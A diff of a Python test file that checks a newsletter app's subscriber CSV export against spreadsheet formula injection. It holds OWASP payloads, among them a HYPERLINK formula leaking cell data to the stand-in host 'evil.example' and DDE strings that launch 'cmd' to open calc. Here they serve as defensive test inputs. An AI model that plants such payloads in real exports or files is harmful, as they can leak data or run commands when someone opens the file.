@@ -17,11 +17,11 @@ from sqlalchemy import select
 
 from digest import csvfiles
 from digest.cli import cli
-from digest.models import ConsentEvent, Newsletter, Subscriber, Subscription, SubscriberStatus
+from digest.models import ConsentEvent, Newsletter, Subscriber, SubscriberStatus, Subscription
 
 OWASP = [
     '=1+2";=1+2',
-    '=1+2\'" ;,=1+2',
+    "=1+2'\" ;,=1+2",
     '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!E1",
@@ -98,9 +98,9 @@ def test_the_subscriber_export_runs_in_no_spreadsheet(run, factory, tmp_path: Pa
         for cell in row:
             assert not cell.startswith(FORMULA_STARTS), cell
     # Every cell quoted: a `;` inside one does not start a cell for a `;`-separated reader.
-    assert "\"'=1+2\"\";=1+2\"" in raw
+    assert '"\'=1+2"";=1+2"' in raw
     assert "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in raw
-    assert "\"'=-reader0@example.org\"" not in raw and "\"'=reader0@example.org\"" in raw
+    assert '"\'=-reader0@example.org"' not in raw and '"\'=reader0@example.org"' in raw
     by_email = {csvfiles.restore(r[0]): r for r in rows[1:]}
     assert set(by_email) == set(expected)
     for email, (name, source) in expected.items():
